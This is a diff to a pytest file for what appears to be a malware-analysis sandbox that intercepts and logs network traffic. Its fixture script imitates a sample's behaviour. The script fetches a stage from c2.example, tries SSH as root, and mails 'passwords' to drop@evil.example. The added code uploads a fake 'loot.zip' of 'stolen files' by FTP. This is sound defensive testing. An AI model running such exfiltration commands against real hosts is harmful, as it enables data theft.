@@ -28,6 +28,7 @@ BIG = 5 * 1024 * 1024  # what the script sends
 # $D is the work directory; every client's result lands there.
 SCRIPT = r"""
 cd "$D"
+date +%s.%N > started
 curl -sS --max-time 20 -o https.txt https://c2.example/next/stage.txt; echo $? > https.rc
 curl -sS --max-time 20 -o http.txt http://plain.example/hello.json; echo $? > http.rc
 curl -sS --max-time 20 --cacert other-ca.pem https://untrusted.example/; echo $? > untrusted.rc
@@ -90,8 +91,17 @@ m.login("imapuser", "imap pass")
 open("imap.select", "w").write(repr(m.select("INBOX")))
 m.logout()
 ' ; echo $? > imap.rc
+python3 -c '
+import ftplib, io
+f = ftplib.FTP("ftp.example", timeout=15)
+f.login("ftpuser", "ftp pass")
+f.storbinary("STOR loot.zip", io.BytesIO(b"PK stolen files" * 1000))
+open("ftp.list", "w").write(repr(f.nlst()))
+f.quit()
+' 2> ftp.err; echo $? > ftp.rc
 timeout 5 ssh -v -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@c2.example true \
     </dev/null 2>ssh.err; echo $? > ssh.rc
+date +%s.%N > finished
 """
 MAIL = b"From: bot@victim.example\r\nTo: drop@evil.example\r\nSubject: loot\r\n\r\npasswords\r\n"
 SCRIPT = SCRIPT.replace("MAIL", 'b"' + MAIL.decode().replace("\r\n", "\\r\\n") + '"')  # inside sh's '...'
@@ -105,7 +115,8 @@ def run(tmp_path_factory):
     state, bodies, keylog, pcap = work / "state", work / "bodies", work / "keys.log", work / "capture.pcap"
     config = work / "sandbox.toml"
     config.write_text(f'[queue]\nbackend = "{lab.BACKEND}"\n[tls]\nstate_dir = "{state}"\nkeylog = "{keylog}"\n'
-                      f'[http]\nbodies_dir = "{bodies}"\n[server_first]\nmail_dir = "{work / "mail"}"\n')
+                      f'[http]\nbodies_dir = "{bodies}"\n[server_first]\nmail_dir = "{work / "mail"}"\n'
+                      f'uploads_dir = "{work / "uploads"}"\n')
     (work / "other-ca.pem").write_bytes(certs.ensure_ca(work / "other").pem)  # a CA curl trusts instead
     env = dict(os.environ, PYTHONPATH=str(REPO), D=str(work))
     env.pop("SUDO_UID", None)
@@ -297,3 +308,22 @@ def test_ssh_in_batch_mode_exits_within_5_s_with_the_banner_logged(run):
     rec = records_of(records, "ssh")
     assert rec and rec[0]["client_version"].startswith("SSH-2.0-OpenSSH") and rec[0]["logins"] == []
     assert rec[0]["original_destination"].endswith(":22")
+
+
+def test_ftplib_logs_in_and_uploads_a_file_that_is_kept(run):
+    work, records = run
+    assert rc(work, "ftp") == 0, (work / "ftp.err").read_text()
+    assert (work / "ftp.list").read_text() == "[]"
+    login = records_of(records, "ftp")
+    assert login and login[0]["user"] == "ftpuser" and login[0]["password"] == "ftp pass"
+    assert login[0]["original_destination"].endswith(":21")
+    (up,) = records_of(records, "ftp_upload")
+    sent = b"PK stolen files" * 1000
+    assert up["name"] == "loot.zip" and up["size"] == len(sent) and up["sha256"] == hashlib.sha256(sent).hexdigest()
+    assert (work / "uploads" / up["sha256"]).read_bytes() == sent
+
+
+def test_every_client_of_the_sample_like_script_finished_within_30_s(run):
+    work, _ = run
+    took = float((work / "finished").read_text()) - float((work / "started").read_text())
+    assert took < 30, f"the clients took {took:.1f} s"
